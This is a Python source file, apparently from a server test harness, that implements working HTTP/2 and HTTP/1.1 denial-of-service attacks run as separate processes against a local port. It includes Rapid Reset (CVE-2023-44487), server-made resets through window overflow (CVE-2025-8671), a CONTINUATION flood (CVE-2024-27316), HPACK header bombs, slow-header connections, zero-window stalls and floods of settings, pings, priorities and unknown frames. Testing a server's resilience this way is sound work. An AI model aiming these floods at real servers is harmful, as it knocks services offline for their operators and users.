"""Attackers over HTTP/2 (and a slow one over HTTP/1.1), each in a process of its own: `attack.py KIND PORT SECONDS` does nothing
else until the time is over, on several connections, dialling anew whenever one is ended. It reads nothing, and prints what
it did as JSON. Politely in one way only: it takes the processor when nobody else wants it, as an attacker elsewhere would."""
from __future__ import annotations

import json
import os
import pathlib
import socket
import struct
import subprocess
import sys
import threading
import time

if __name__ == "__main__":
    sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1]))

from harness.frames import (  # noqa: E402
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame,
    integer, literal, request)

CONNECTIONS = 4
SLOW_CONNECTIONS = 200
CONTINUATIONS = 100_000
BLOCK = literal(request("GET", "/health"))


def _streams(each, first=1, count=1000):
    """`each(number)` for so many streams, as one run of bytes."""
    return b"".join(each(number) for number in range(first, first + 2 * count, 2))


def _rapid_reset():
    """CVE-2023-44487: requests that are taken back at once."""
    first = 1
    yield PREFACE + frame(SETTINGS)
    while first < 1 << 30:
        yield _streams(lambda number: frame(HEADERS, END_HEADERS | END_STREAM, number, BLOCK)
                       + frame(RST_STREAM, 0, number, b"\0\0\0\x08"), first)
        first += 2000


def _made_resets():
    """CVE-2025-8671: requests that the server has to reset itself, by windows that overflow."""
    first = 1
    yield PREFACE + frame(SETTINGS)
    while first < 1 << 30:
        yield _streams(lambda number: frame(HEADERS, END_HEADERS, number, BLOCK)
                       + frame(WINDOW_UPDATE, 0, number, b"\x7f\xff\xff\xff"), first)
        first += 2000


def _refused():
    """Requests far over the number of streams: a hundred that do not end, and then more."""
    first = 1
    yield PREFACE + frame(SETTINGS)
    while first < 1 << 30:
        yield _streams(lambda number: frame(HEADERS, END_HEADERS, number, BLOCK), first)
        first += 2000


def _windows():
    """Windows that open by next to nothing, again and again."""
    yield PREFACE + frame(SETTINGS) + frame(HEADERS, END_HEADERS, 1, BLOCK)
    while True:
        yield (frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\x01") + frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01")) * 1000


def _malformed():
    """Requests each of which is a stream error."""
    first, block = 1, literal(request("GET", "/health", ("X-Upper", "a")))
    yield PREFACE + frame(SETTINGS)
    while first < 1 << 30:
        yield _streams(lambda number: frame(HEADERS, END_HEADERS | END_STREAM, number, block), first)
        first += 2000


def _continuation():
    """CVE-2024-27316: a header block of 100,000 frames that does not end."""
    yield PREFACE + frame(SETTINGS) + frame(HEADERS, 0, 1, BLOCK)
    part = literal([("x-a", "b" * 100)])
    for _ in range(CONTINUATIONS // 1000):
        yield frame(CONTINUATION, 0, 1, part) * 1000


def _empty_continuation():
    yield PREFACE + frame(SETTINGS) + frame(HEADERS, 0, 1, BLOCK)
    while True:
        yield frame(CONTINUATION, 0, 1) * 1000


def _repeated(one, opening=b""):
    yield PREFACE + frame(SETTINGS) + opening
    while True:
        yield one * 1000


def _opened(end=False):
    return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), 1, literal(request("POST", "/public/flood")))


def _bomb():
    """A small block that stands for a large one: 4,000 bytes in the table, named again and again."""
    first = 1
    yield PREFACE + frame(SETTINGS)
    keep = b"\x40" + integer(3, 7) + b"x-a" + integer(4000, 7) + b"b" * 4000
    while first < 1 << 30:
        yield _streams(lambda number: frame(HEADERS, END_HEADERS | END_STREAM, number, BLOCK + keep + b"\xbe" * 12_000), first, 5)
        first += 10


def _stall():
    """Many requests for much, and no window to send any of it."""
    yield PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    yield _streams(lambda number: frame(HEADERS, END_HEADERS | END_STREAM, number, literal(request("GET", "/public/large"))),
                   count=25)
    while True:
        time.sleep(0.2)
        yield frame(PING, 0, 0, b"12345678")


FLOODS = {
    "rapid reset": _rapid_reset,
    "resets that the server makes": _made_resets,
    "malformed requests": _malformed, "streams over the limit": _refused, "window updates": _windows,
    "continuations": _continuation,
    "empty continuations": _empty_continuation,
    "settings": lambda: _repeated(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))),
    "empty settings": lambda: _repeated(frame(SETTINGS)),
    "pings": lambda: _repeated(frame(PING, 0, 0, b"12345678")),
    "empty data": lambda: _repeated(frame(DATA, 0, 1), _opened()),
    "windows": lambda: _repeated(frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\1"), _opened()),
    "priorities": lambda: _repeated(
        frame(PRIORITY, 0, 3, struct.pack(">IB", 5, 9)) + frame(PRIORITY, 0, 5, struct.pack(">IB", 3, 9))),
    "unknown frames": lambda: _repeated(frame(0x42, 0, 0, b"x" * 100)),
    "header bombs": _bomb,
    "windows of nothing": _stall,
}


class Attacker:
    """One attack: threads that dial, send, and dial again."""

    def __init__(self, port, seconds):
        self.port = port
        self.until = time.monotonic() + seconds
        self.lock = threading.Lock()
        self.counts = {"dialled": 0, "ended": 0, "refused": 0, "bytes": 0}

    def count(self, name, more=1):
        with self.lock:
            self.counts[name] += more

    def dial(self):
        try:
            made = socket.create_connection(("127.0.0.1", self.port), 5)
        except OSError:
            self.count("refused")
            time.sleep(0.01)
            return None
        made.settimeout(0.5)
        self.count("dialled")
        return made

    def flood(self, make):
        while time.monotonic() < self.until:
            sock = self.dial()
            if sock is None:
                continue
            with sock:
                try:
                    for data in make():
                        self._send(sock, data)
                        if time.monotonic() > self.until:
                            return
                except OSError:
                    self.count("ended")

    def _send(self, sock, data):
        """All of it, however long the peer takes, unless the time is over."""
        view = memoryview(data)
        while view:
            try:
                done = sock.send(view)
            except (TimeoutError, socket.timeout):
                if time.monotonic() > self.until:
                    return
                continue
            self.count("bytes", done)
            view = view[done:]

    def drip(self, opening, more):
        """Many connections, each of which sends a little now and then."""
        open_ones = []
        while time.monotonic() < self.until:
            while len(open_ones) < SLOW_CONNECTIONS and time.monotonic() < self.until:
                sock = self.dial()
                if sock is None:
                    break
                try:
                    sock.sendall(opening)
                    open_ones.append(sock)
                except OSError:
                    self.count("ended")
            for each in list(open_ones):
                try:
                    each.sendall(more)
                    self.count("bytes", len(more))
                except OSError:
                    self.count("ended")
                    open_ones.remove(each)
                    each.close()
            time.sleep(0.1)

    def run(self, kind):
        if kind == "slow heads":
            work = [lambda: self.drip(b"GET /health HTTP/1.1\r\nHost: a\r\nX-Slow: ", b"z")]
        elif kind == "slow headers of a stream":
            work = [lambda: self.drip(PREFACE + frame(SETTINGS) + frame(HEADERS, 0, 1, BLOCK[:10]),
                                      frame(CONTINUATION, 0, 1, BLOCK[10:11]))]
        else:
            work = [lambda: self.flood(FLOODS[kind])] * CONNECTIONS
        threads = [threading.Thread(target=each) for each in work]
        for each in threads:
            each.start()
        for each in threads:
            each.join()
        return self.counts


SLOW = ["slow heads", "slow headers of a stream"]


class Attack:
    """An attacker's process, on `core` if one is its own; a context manager. `result` waits for its end."""

    def __init__(self, kind, port, seconds, core=None):
        self.seconds = seconds
        self.process = subprocess.Popen(
            [sys.executable, __file__, kind, str(port), str(seconds)], stdout=subprocess.PIPE, encoding="ascii",
            preexec_fn=None if core is None else lambda: os.sched_setaffinity(0, {core}))

    def __enter__(self):
        return self

    def __exit__(self, *_):
        if self.process.poll() is None:
            self.process.kill()
        self.process.communicate()

    def running(self):
        return self.process.poll() is None

    def result(self):
        output, _ = self.process.communicate(timeout=self.seconds + 20)
        assert self.process.returncode == 0
        return json.loads(output)


if __name__ == "__main__":
    os.nice(19)
    print(json.dumps(Attacker(int(sys.argv[2]), float(sys.argv[3])).run(sys.argv[1])))
